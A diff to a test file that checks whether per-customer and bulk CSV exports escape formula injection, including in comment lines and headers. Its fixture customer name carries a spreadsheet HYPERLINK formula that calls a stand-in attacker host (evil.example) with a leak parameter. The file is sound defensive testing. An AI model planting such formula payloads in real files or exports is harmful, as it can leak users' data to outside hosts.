@@ -1,7 +1,7 @@
 /**
  * Formula injection in CSV exports (issue 13.3): a customer named
  * `Eve,=HYPERLINK("http://evil.example/?leak=1")` exported by a token whose name is a formula.
- * Parsed back with papaparse, no cell of the per-customer CSV or of the bulk CSV — comment lines
+ * Comment lines keep starting with `#`. Parsed back with papaparse, no cell of the per-customer CSV or of the bulk CSV — comment lines
  * and headers included — starts with `=`, `+`, `@`, or with `-` unless it is a plain number
  * (a negative amount, which a spreadsheet reads as a number, never as a formula).
  */
@@ -44,7 +44,7 @@ async function csv(path: string): Promise<string> {
 
 /** Every cell that a spreadsheet would evaluate as a formula. */
 function liveFormulas(text: string): string[] {
-  const { data } = Papa.parse<string[]>(text, { skipEmptyLines: true });
+  const { data } = Papa.parse<string[]>(text, { delimiter: ',', skipEmptyLines: true });
   return data.flat().filter((cell) => /^[=+@]/.test(cell) || (cell.startsWith('-') && !/^-\d+(\.\d+)?$/.test(cell)));
 }
 
@@ -52,11 +52,12 @@ describe('CSV exports escape every line', () => {
   it('the per-customer CSV: comment lines, headers and rows', async () => {
     const text = await csv(`/customers/${ID}/export?format=csv`);
     expect(liveFormulas(text)).toEqual([]);
-    const { data } = Papa.parse<string[]>(text, { skipEmptyLines: true });
-    // The name stays inside the first comment cell; the token's name inside the second.
-    expect(data[0]).toEqual([`# c360 customer export: ${EVE} (customer ${ID})`]);
-    expect(data[1]).toHaveLength(1);
-    expect(data[1]![0]).toContain(TOKEN_NAME);
+    const lines = text.split('\r\n');
+    // Comment lines still start with `#`; the formula after the name's comma is inert.
+    expect(lines[0]).toBe(`# c360 customer export: Eve,'=HYPERLINK("http://evil.example/?leak=1") (customer ${ID})`);
+    expect(lines[1]).toMatch(/^# Exported /);
+    expect(lines[1]).toContain(`by ${TOKEN_NAME} (admin)`);
+    const { data } = Papa.parse<string[]>(text, { delimiter: ',', skipEmptyLines: true });
     // The order number that looks like a formula is escaped, not dropped.
     expect(data.some((row) => row[0] === "'-2+3")).toBe(true);
   });
@@ -64,10 +65,10 @@ describe('CSV exports escape every line', () => {
   it('the bulk CSV: the comment line with the token name, the header and the rows', async () => {
     const text = await csv(`/customers/export.csv?q=${encodeURIComponent('eve@evil.example')}`);
     expect(liveFormulas(text)).toEqual([]);
-    const { data } = Papa.parse<string[]>(text, { skipEmptyLines: true });
-    expect(data[0]).toHaveLength(1);
-    expect(data[0]![0]).toContain(TOKEN_NAME);
-    expect(data.some((row) => row.includes(`'${EVE}`) || row.includes(EVE))).toBe(true);
+    expect(text.split('\r\n')[0]).toMatch(/^# c360 customers export · exported /);
+    expect(text.split('\r\n')[0]).toContain(`by ${TOKEN_NAME} (admin)`);
+    const { data } = Papa.parse<string[]>(text, { delimiter: ',', skipEmptyLines: true });
+    expect(data.some((row) => row.includes(EVE))).toBe(true);
   });
 
   it('a test of this kind can fail: an unescaped formula is found', () => {
